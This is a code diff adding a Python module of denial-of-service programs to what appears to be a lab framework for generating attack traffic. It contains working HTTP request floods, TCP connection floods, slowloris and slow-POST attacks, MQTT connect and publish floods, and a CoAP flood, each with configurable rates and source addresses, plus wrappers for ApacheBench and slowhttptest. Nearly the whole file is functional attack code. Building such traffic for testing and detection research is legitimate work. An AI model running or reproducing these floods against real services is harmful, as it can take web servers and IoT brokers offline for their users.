@@ -1,0 +1,148 @@
+"""Attacks that speak the victim's language: HTTP, MQTT, CoAP, TLS."""
+
+import asyncio
+import contextlib
+
+from train.lab import sockets
+from train.lab.actor import Actor
+from train.lab.plan import Job
+from train.lab.programs.mqtt import connect_packet, publish_packet
+from train.lab.programs.web import fetch
+from train.lab.registry import program
+
+_Broken = (OSError, asyncio.IncompleteReadError, asyncio.LimitOverrunError, ValueError)
+
+
+@program
+async def http_flood(me: Actor, job: Job) -> None:
+    """`rate` requests a second from `sources` in turn; `keep` requests on each connection."""
+    p = job.params
+    limit = asyncio.Semaphore(p["parallel"])
+
+    async def one(number: int) -> None:
+        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
+        async with limit:
+            with contextlib.suppress(*_Broken):
+                async with sockets.connection(
+                    p["target"], p["port"], source=source, tls=p.get("tls", False)
+                ) as (r, w):
+                    for _ in range(p["keep"]):
+                        path = f"{p['path']}?{me.rng.getrandbits(32)}" if p.get("vary") else p["path"]
+                        await fetch(r, w, path, body=p.get("body", 0))
+
+    async with asyncio.TaskGroup() as group:
+        async for number in me.paced(p["rate"] / p["keep"], shape=p.get("shape", "steady"), count=p["count"]):
+            group.create_task(one(number))
+
+
+@program
+async def connect_flood(me: Actor, job: Job) -> None:
+    """Whole TCP connections without a word on them, each held for `hold` seconds."""
+    p = job.params
+    limit = asyncio.Semaphore(p["parallel"])
+
+    async def one(number: int) -> None:
+        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
+        async with limit:
+            with contextlib.suppress(*_Broken):
+                async with sockets.connection(p["target"], p["port"], source=source, timeout=2.0):
+                    await asyncio.sleep(p["hold"])
+
+    async with asyncio.TaskGroup() as group:
+        async for number in me.paced(p["rate"], shape=p.get("shape", "steady"), count=p["count"]):
+            group.create_task(one(number))
+
+
+@program
+async def ab(me: Actor, job: Job) -> None:
+    """The real ApacheBench, bounded by its number of requests."""
+    p = job.params
+    argv = ["ab", "-q", "-r", "-s", "3", "-n", str(p["count"]), "-c", str(p["parallel"])]
+    argv += ["-k"] if p.get("keep") else []
+    await me.tool(*argv, f"http://{p['target']}:{p['port']}{p['path']}")
+
+
+@program
+async def slowhttptest(me: Actor, job: Job) -> None:
+    """The real slowhttptest: `mode` H (slow headers), B (slow body) or X (slow read)."""
+    p = job.params
+    argv = ["slowhttptest", f"-{p['mode']}", "-c", str(p["connections"]), "-i", str(p["interval"])]
+    argv += ["-r", str(p["rate"]), "-l", str(int(job.seconds)), "-x", "24", "-p", "3"]
+    await me.tool(*argv, "-u", f"http://{p['target']}:{p['port']}/")
+
+
+@program
+async def slow_drip(me: Actor, job: Job) -> None:
+    """Our own slowloris and slow POST: hold `connections`, a few bytes on each every `interval` seconds."""
+    p = job.params
+    first = "GET / HTTP/1.1\r\nHost: d\r\n"
+    if p["post"]:
+        first = "POST / HTTP/1.1\r\nHost: d\r\nContent-Length: 100000\r\n\r\n"
+
+    async def one(number: int) -> None:
+        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
+        with contextlib.suppress(*_Broken):
+            async with sockets.connection(p["target"], p["port"], source=source) as (_, writer):
+                writer.write(first.encode())
+                while True:
+                    await asyncio.sleep(p["interval"] * me.rng.uniform(0.7, 1.3))
+                    writer.write(b"x" if p["post"] else f"X-{me.rng.randint(1, 5000)}: b\r\n".encode())
+                    await writer.drain()
+
+    async with asyncio.TaskGroup() as group:
+        async for number in me.paced(p["rate"], count=p["connections"]):
+            group.create_task(one(number))
+
+
+@program
+async def mqtt_flood(me: Actor, job: Job) -> None:
+    """MQTT `mode` connect: connections without end. `mode` publish: messages without end on a few."""
+    p = job.params
+    limit = asyncio.Semaphore(p["parallel"])
+
+    async def connect(number: int) -> None:
+        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
+        async with limit:
+            with contextlib.suppress(*_Broken):
+                async with sockets.connection(p["target"], p["port"], source=source) as (reader, writer):
+                    writer.write(connect_packet(f"c{me.rng.getrandbits(40):x}"))
+                    await reader.readexactly(4)
+                    await asyncio.sleep(p.get("hold", 0.0))
+
+    async def publish(number: int) -> None:
+        source = p["sources"][number % len(p["sources"])] if p.get("sources") else None
+        with contextlib.suppress(*_Broken):
+            async with sockets.connection(p["target"], p["port"], source=source) as (reader, writer):
+                writer.write(connect_packet(f"p{me.rng.getrandbits(40):x}"))
+                await reader.readexactly(4)
+                shape = p.get("shape", "steady")
+                async for turn in me.paced(
+                    p["rate"] / p["parallel"], shape=shape, count=p["count"] // p["parallel"]
+                ):
+                    writer.write(
+                        publish_packet("home/x", bytes(p["bytes"]), qos=p.get("qos", 0), number=turn)
+                    )
+                    await writer.drain()
+
+    async with asyncio.TaskGroup() as group:
+        if p["mode"] == "publish":
+            for number in range(p["parallel"]):
+                group.create_task(publish(number))
+            return
+        async for number in me.paced(p["rate"], shape=p.get("shape", "steady"), count=p["count"]):
+            group.create_task(connect(number))
+
+
+@program
+async def coap_flood(me: Actor, job: Job) -> None:
+    """CoAP GETs from ordinary sockets, `flows` source ports; the victim answers each."""
+    p = job.params
+    sources = p.get("sources") or [None]
+    socks = [sockets.datagram(p["target"], source=sources[n % len(sources)]) for n in range(p["flows"])]
+    try:
+        async for number in me.paced(p["rate"], shape=p.get("shape", "steady"), count=p["count"]):
+            message = b"\x40\x01" + (number & 0xFFFF).to_bytes(2, "big") + b"\xbb.well-known\x04core"
+            sockets.send(socks[number % len(socks)], message, (p["target"], p["port"]))
+    finally:
+        for sock in socks:
+            sock.close()
